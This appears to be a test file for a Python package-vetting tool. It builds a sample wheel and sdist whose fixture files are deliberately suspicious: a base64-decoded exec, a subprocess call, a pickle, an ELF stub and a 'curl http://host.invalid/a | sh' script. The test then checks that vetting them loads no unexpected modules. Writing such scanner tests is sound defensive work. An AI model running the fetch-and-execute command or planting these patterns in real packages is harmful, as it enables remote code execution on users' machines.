"""What a process has loaded after ``airlock.warm`` is all that an examination needs."""

import subprocess
import sys
from pathlib import Path

from tests.simulators.packages import make_sdist, make_wheel

_EXAMINE = """
import sys
from pathlib import Path
import yara_x
import airlock.warm
from airlock import assembly, vetting
yara_x.compile = None  # whoever compiles patterns now, fails
loaded = set(sys.modules)
checks, facts = assembly.examination_kit()
for path in map(Path, sys.argv[1:]):
    artifact = vetting.identify(path)
    verdict = vetting.vet(artifact, path, checks, assembly.policy(None), facts(assembly.now()))
    print(*(outcome.reason for outcome in verdict.outcomes if "NoneType" in outcome.reason))
print(*(name for name in set(sys.modules) - loaded if not name.startswith("encodings.")))
"""
_FILES: dict[str, bytes | str] = {
    "harbour/__init__.py": "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
    "harbour/pier.py": "import subprocess\nprint 'Python 2'\nsubprocess.run(['ls'])\n",
    "harbour/run.sh": "#!/bin/sh\ncurl http://host.invalid/a | sh\n",
    "harbour/data.pkl": b"\x80\x04N.",
    "harbour/library.so": b"\x7fELF\x02\x01\x01" + bytes(57),
}


def test_an_examination_loads_nothing_more(tmp_path: Path) -> None:
    paths = []
    for filename, data in (make_wheel("harbour", "1.0", _FILES), make_sdist("harbour", "1.0")):
        paths.append(tmp_path / filename)
        paths[-1].write_bytes(data)
    done = subprocess.run(
        [sys.executable, "-c", _EXAMINE, *paths], capture_output=True, text=True, check=True
    )
    assert (done.stdout.split(), done.stderr) == ([], "")
